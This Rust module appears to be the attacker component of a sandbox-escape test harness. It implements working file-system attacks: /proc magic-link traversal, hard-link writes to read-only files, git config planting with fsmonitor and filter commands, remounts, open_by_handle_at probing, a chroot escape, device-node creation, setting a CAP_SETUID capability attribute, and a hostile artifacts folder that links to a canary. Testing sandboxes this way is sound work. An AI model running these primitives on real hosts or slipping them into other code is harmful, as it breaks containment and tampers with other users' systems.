//! Attacks on files and paths.

use super::{call, claim, hold, others, say, sys, tell};
use std::{
    ffi::{CString, OsStr},
    fs, io,
    os::{
        fd::AsRawFd,
        unix::{
            ffi::OsStrExt,
            fs::{OpenOptionsExt, symlink},
            net::UnixListener,
            process::CommandExt,
        },
    },
    path::Path,
};

pub(super) fn attack(name: &str, arguments: &[&str]) -> Option<()> {
    match (name, arguments) {
        ("wait", []) => hold(),
        ("magic-links", [path]) => magic_links(path),
        ("plant", names) => names.iter().for_each(|name| plant(Path::new(name))),
        ("link", [from, to]) => link(from, to),
        ("replace-parent", [parent, child]) => replace_parent(parent, child),
        ("plant-git", []) => plant_git(),
        ("remount", [place, file]) => remount(place, file),
        ("mount", [source, place]) => mount(source, place),
        ("open-handle", [handle]) => open_handle(handle),
        ("new-mounts", []) => new_mounts(),
        ("chroot", [path]) => chroot(path),
        ("make-devices", [given]) => make_devices(given),
        ("exec-set-id", [program]) => exec_set_id(program),
        ("open-devices", names) => open_devices(names),
        ("open-one", [path]) => {
            let _file = fs::File::open(path);
            hold();
        }
        ("inherited", []) => inherited(),
        ("write-places", names) => names
            .iter()
            .for_each(|name| drop(fs::write(name, "of the program"))),
        ("artifacts", [canary, given, count]) => {
            artifacts(canary, given, count.parse().unwrap_or(0))
        }
        ("attributes", [file]) => attributes(file),
        ("lease", [file]) => lease(file),
        _ => return None,
    }
    Some(())
}

fn c_path(path: &str) -> CString {
    CString::new(path).unwrap_or_default()
}

/// The host's path through every link of the kernel's that leads to a root or a folder.
fn magic_links(path: &str) {
    let folder = fs::File::open("/");
    let number = folder.as_ref().map_or(-1, AsRawFd::as_raw_fd);
    let up = "/..".repeat(12);
    let mut ways = vec![
        format!("/proc/self/root{path}"),
        format!("/proc/thread-self/root{path}"),
        format!("/proc/self/cwd{up}{path}"),
        format!("/proc/self/fd/{number}{up}{path}"),
        format!("/dev/fd/{number}{up}{path}"),
    ];
    let of_others = |pid: &i32| {
        [
            format!("/proc/{pid}/root{path}"),
            format!("/proc/{pid}/cwd{up}{path}"),
        ]
    };
    ways.extend(others().iter().flat_map(of_others));
    ways.iter().for_each(|way| tell(way));
}

/// A file with that name, whatever it takes.
fn plant(path: &Path) {
    if let Some(parent) = path.parent() {
        _ = fs::create_dir_all(parent);
    }
    if fs::write(path, "of the program").is_err() {
        _ = fs::remove_dir_all(path);
        _ = fs::remove_file(path);
        let beside = path.with_extension("planted");
        _ = fs::write(&beside, "of the program");
        _ = fs::rename(beside, path);
    }
}

/// A second name for a file that can only be read, then writing through it.
fn link(from: &str, to: &str) {
    _ = fs::hard_link(from, to);
    if let Ok(file) = fs::File::open(from) {
        let opened = c_path(&format!("/proc/self/fd/{}", file.as_raw_fd()));
        let (here, target) = (libc::AT_FDCWD, c_path(to));
        _ = call!(
            libc::SYS_linkat,
            here,
            &*opened,
            here,
            &*target,
            libc::AT_SYMLINK_FOLLOW
        );
        _ = call!(
            libc::SYS_linkat,
            file.as_raw_fd(),
            c"",
            here,
            &*target,
            libc::AT_EMPTY_PATH
        );
    }
    if Path::new(to).exists() {
        _ = fs::write(to, "of the program");
    }
}

fn replace_parent(parent: &str, child: &str) {
    for old in ["old", "/tmp/old"] {
        _ = fs::rename(parent, old);
    }
    let fresh = c"fresh";
    _ = fs::create_dir("fresh");
    let exchange = libc::RENAME_EXCHANGE as i32;
    _ = call!(
        libc::SYS_renameat2,
        libc::AT_FDCWD,
        fresh,
        libc::AT_FDCWD,
        &*c_path(parent),
        exchange
    );
    plant(Path::new(child));
}

/// What makes git of the host run a program, wherever it may look.
fn plant_git() {
    let settings = "[core]\n\trepositoryFormatVersion = 0\n\tfsmonitor = touch /tmp/ran\n\thooksPath = .planted\n\
                    [filter \"planted\"]\n\tclean = touch /tmp/ran\n\tsmudge = touch /tmp/ran\n";
    let lay_out = |folder: &str| {
        for inner in ["objects", "refs"] {
            _ = fs::create_dir_all(format!("{folder}/{inner}"));
        }
        _ = fs::write(format!("{folder}/HEAD"), "ref: refs/heads/main\n");
        _ = fs::write(format!("{folder}/config"), settings);
        // How git itself replaces the file.
        _ = fs::write(format!("{folder}/config.lock"), settings);
        _ = fs::rename(format!("{folder}/config.lock"), format!("{folder}/config"));
        _ = fs::write(format!("{folder}/config.worktree"), settings);
    };
    ["planted", "bare", ".git"]
        .iter()
        .for_each(|folder| lay_out(folder));
    _ = fs::write(".gitattributes", "* filter=planted\n");
    let obeyed = |path: &str| fs::read_to_string(path).is_ok_and(|text| text == settings);
    if obeyed(".git/config") || (obeyed("bare/config") && Path::new(".git").is_file()) {
        return;
    }
    _ = fs::write(".git/commondir", "../planted\n");
    _ = fs::remove_file(".git/config");
    _ = symlink("../planted/config", ".git/config");
    _ = fs::remove_dir_all(".git");
    _ = fs::remove_file(".git");
    _ = fs::write(".git", "gitdir: planted\n");
    // Without a `.git`, the folder itself may be one.
    lay_out(".");
}

fn remount(place: &str, file: &str) {
    let (place, none) = (c_path(place), 0);
    let flags = libc::MS_REMOUNT | libc::MS_BIND | libc::MS_NOSUID | libc::MS_NODEV;
    _ = call!(libc::SYS_mount, none, &*place, none, flags, none);
    // `mount_setattr` that clears the read-only bit: set, clear, propagation, namespace.
    let attributes = [0u64, libc::MOUNT_ATTR_RDONLY, 0, 0]
        .map(u64::to_ne_bytes)
        .concat();
    _ = call!(
        libc::SYS_mount_setattr,
        libc::AT_FDCWD,
        &*place,
        0,
        &attributes[..],
        attributes.len()
    );
    _ = fs::write(file, "of the program");
    _ = call!(libc::SYS_umount2, &*place, libc::MNT_DETACH);
    _ = fs::write(file, "of the program");
}

fn mount(source: &str, place: &str) {
    _ = fs::create_dir(place);
    let (source, place) = (c_path(source), c_path(place));
    _ = call!(
        libc::SYS_mount,
        0,
        c"/",
        0,
        libc::MS_REC | libc::MS_SHARED,
        0
    );
    if let Err(error) = call!(libc::SYS_mount, &*source, &*place, c"tmpfs", 0, 0) {
        say(&format!("mount: {error}"));
    }
    hold();
}

/// What the kernel calls a file: the bytes of its handle, in hexadecimal digits, its type first.
pub(crate) fn handle_of(path: &Path) -> io::Result<String> {
    let path = CString::new(path.as_os_str().as_bytes())?;
    let mut handle = [0u8; 8 + 128];
    handle[..4].copy_from_slice(&128u32.to_ne_bytes());
    let mut mount = [0u8; 4];
    call!(
        libc::SYS_name_to_handle_at,
        libc::AT_FDCWD,
        &*path,
        &mut handle[..],
        &mut mount[..],
        0
    )?;
    let length = 8 + u32::from_ne_bytes([handle[0], handle[1], handle[2], handle[3]]) as usize;
    Ok(handle
        .iter()
        .take(length)
        .map(|byte| format!("{byte:02x}"))
        .collect())
}

fn open_handle(digits: &str) {
    let byte = |place: usize| {
        u8::from_str_radix(digits.get(place..place + 2).unwrap_or("0"), 16).unwrap_or(0)
    };
    let handle: Vec<_> = (0..digits.len()).step_by(2).map(byte).collect();
    for place in ["/workspace", "/attacker", "/usr", "/"] {
        let Ok(folder) = fs::File::open(place) else {
            continue;
        };
        let opened = call!(
            libc::SYS_open_by_handle_at,
            folder.as_raw_fd(),
            &handle[..],
            libc::O_RDONLY
        );
        if let Ok(number) = opened {
            tell(&format!("/proc/self/fd/{number}"));
        }
    }
}

/// A file system of our own by the calls that came after `mount`.
fn new_mounts() {
    if let Some(context) = claim("fsopen", call!(libc::SYS_fsopen, c"tmpfs", 0)) {
        const CREATE: i32 = 6;
        _ = call!(libc::SYS_fsconfig, context, CREATE, 0, 0, 0);
        if let Some(tree) = claim("fsmount", call!(libc::SYS_fsmount, context, 0, 0)) {
            const FROM_EMPTY: i32 = 4;
            let here = libc::AT_FDCWD;
            _ = claim(
                "move_mount",
                call!(libc::SYS_move_mount, tree, c"", here, c"/tmp", FROM_EMPTY),
            );
        }
    }
    const CLONE: i32 = 1;
    _ = claim(
        "open_tree",
        call!(libc::SYS_open_tree, libc::AT_FDCWD, c"/usr", CLONE),
    );
    _ = claim("fspick", call!(libc::SYS_fspick, libc::AT_FDCWD, c"/", 0));
    let attributes = [0u64; 4].map(u64::to_ne_bytes).concat();
    let changed = call!(
        libc::SYS_mount_setattr,
        libc::AT_FDCWD,
        c"/tmp",
        0,
        &attributes[..],
        attributes.len()
    );
    _ = claim("mount_setattr", changed);
    hold();
}

/// The old way out: a root below the folder that one still has open.
fn chroot(path: &str) {
    let outside = fs::File::open("/");
    _ = fs::create_dir("/tmp/jail");
    _ = call!(libc::SYS_chroot, c"/tmp/jail");
    if let Ok(outside) = &outside {
        _ = call!(libc::SYS_fchdir, outside.as_raw_fd());
    }
    let up = "../".repeat(12);
    tell(&format!("{up}{path}"));
    _ = claim("pivot_root", call!(libc::SYS_pivot_root, c".", c"."));
    hold();
}

fn make_devices(given: &str) {
    for (place, kind) in [
        (c"/tmp/node", libc::S_IFCHR),
        (c"/workspace/node", libc::S_IFBLK),
    ] {
        // The devices of `/dev/zero` and of the first loop device.
        let device = if kind == libc::S_IFCHR {
            libc::makedev(1, 5)
        } else {
            libc::makedev(7, 0)
        };
        _ = call!(
            libc::SYS_mknodat,
            libc::AT_FDCWD,
            place,
            (kind | 0o666) as i64,
            device
        );
    }
    let _open: Vec<_> = ["/tmp/node", "/workspace/node", given]
        .map(fs::File::open)
        .into();
    hold();
}

/// Gives every capability away, then runs a program that would bring them back.
fn exec_set_id(program: &str) {
    const VERSION_3: u32 = 0x2008_0522;
    let header = [VERSION_3, 0].map(u32::to_ne_bytes).concat();
    _ = call!(libc::SYS_capset, &header[..], &[0u8; 24][..]);
    // The hidden word, the token and the marker.
    let words = std::env::args_os().skip(1).take(3);
    let failed = std::process::Command::new(program)
        .arg0(crate::world::ATTACKER)
        .args(words)
        .arg("wait")
        .exec();
    say(&format!("exec: {failed}"));
}

fn open_devices(names: &[&str]) {
    let open = |name: &&str| {
        let both = fs::OpenOptions::new()
            .read(true)
            .write(true)
            .custom_flags(libc::O_NONBLOCK)
            .open(name);
        both.or_else(|_| {
            fs::OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_NONBLOCK)
                .open(name)
        })
        .ok()
    };
    let _open: Vec<_> = names.iter().filter_map(open).collect();
    hold();
}

/// What is open from birth, and what lies above it.
fn inherited() {
    for number in 3..256 {
        tell(&format!("/proc/self/fd/{number}"));
        if let Ok(above) = call!(libc::SYS_openat, number, c"..", libc::O_RDONLY) {
            say(&format!(
                "claim it went up from descriptor {number} to {above}"
            ));
        }
    }
    hold();
}

/// Everything that an honest folder of results would not have.
fn artifacts(canary: &str, given: &str, count: u32) {
    sys::on_signal(libc::SIGXFSZ, libc::SIG_IGN);
    let folder = Path::new("/workspace/.artifacts");
    _ = fs::create_dir(folder);
    let at = |name: &str| folder.join(name);
    _ = symlink(canary, at("stolen"));
    _ = symlink(
        Path::new(canary).parent().unwrap_or(Path::new("/")),
        at("folder"),
    );
    _ = symlink(".", at("loop"));
    _ = call!(
        libc::SYS_mknodat,
        libc::AT_FDCWD,
        &*c_path("/workspace/.artifacts/fifo"),
        0o010_666,
        0
    );
    let _socket = UnixListener::bind(at("socket"));
    for size in [1u64 << 40, 60 << 20] {
        _ = fs::File::create(at(&format!("sparse-{size}"))).and_then(|file| file.set_len(size));
    }
    for name in [&b"a\nline"[..], b"\xff\xfe", b"\x1b[2Jsteers", &[b'n'; 255]] {
        _ = fs::write(folder.join(OsStr::from_bytes(name)), "x");
    }
    for number in 0..count {
        _ = fs::write(at(&format!("tiny-{number}")), "");
    }
    // The control: what it can read it may keep.
    _ = fs::copy(given, at("copied"));
}

/// Rights on a file that the kernel of the host would honour.
fn attributes(file: &str) {
    // Version 2, effective, CAP_SETUID.
    let capability = [0x0200_0001u32, 1 << 7, 0, 0, 0]
        .map(u32::to_le_bytes)
        .concat();
    let path = c_path(file);
    for name in [c"security.capability", c"trusted.planted"] {
        _ = call!(
            libc::SYS_setxattr,
            &*path,
            name,
            &capability[..],
            capability.len(),
            0
        );
    }
}

/// Makes whoever opens the file wait.
fn lease(file: &str) {
    let opened = fs::OpenOptions::new().read(true).write(true).open(file);
    if let Ok(file) = &opened {
        _ = call!(
            libc::SYS_fcntl,
            file.as_raw_fd(),
            libc::F_SETLEASE,
            libc::F_WRLCK
        );
    }
    const REPORT_FID: i32 = 0x200;
    _ = call!(libc::SYS_fanotify_init, REPORT_FID, 0);
    hold();
}
